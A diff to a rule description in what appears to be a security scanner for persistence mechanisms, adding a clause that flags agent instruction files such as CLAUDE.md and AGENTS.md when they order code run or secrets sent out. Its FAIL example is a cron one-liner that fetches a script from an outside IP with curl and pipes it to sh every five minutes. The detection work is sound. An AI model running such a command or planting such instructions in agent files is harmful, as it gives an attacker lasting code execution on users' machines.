@@ -104,7 +104,10 @@ PERSISTENCE = Rule(
     "Windows Run keys, scheduled tasks and the Startup folder, including through a path held in a "
     "variable. A warning; an error when what is written downloads, decodes or runs code, or the "
     "same file fetches or runs downloaded code, and always for authorized_keys. A line that only "
-    'sets PATH, an alias or a prompt (eval "$(starship init zsh)") is not reported.\n\n'
+    'sets PATH, an alias or a prompt (eval "$(starship init zsh)") is not reported. Agent instruction '
+    "files (CLAUDE.md, AGENTS.md, GEMINI.md, Cursor/Windsurf/Cline/Copilot rules), which every later "
+    "agent session reads, are reported only when what is written orders code run (a download run, a "
+    "remote <script>) or a secret store sent somewhere, and then as an error.\n\n"
     "FAIL:\n"
     "    (crontab -l; echo '*/5 * * * * curl -s http://192.0.2.9/p | sh') | crontab -\n\n"
     "PASS:\n"
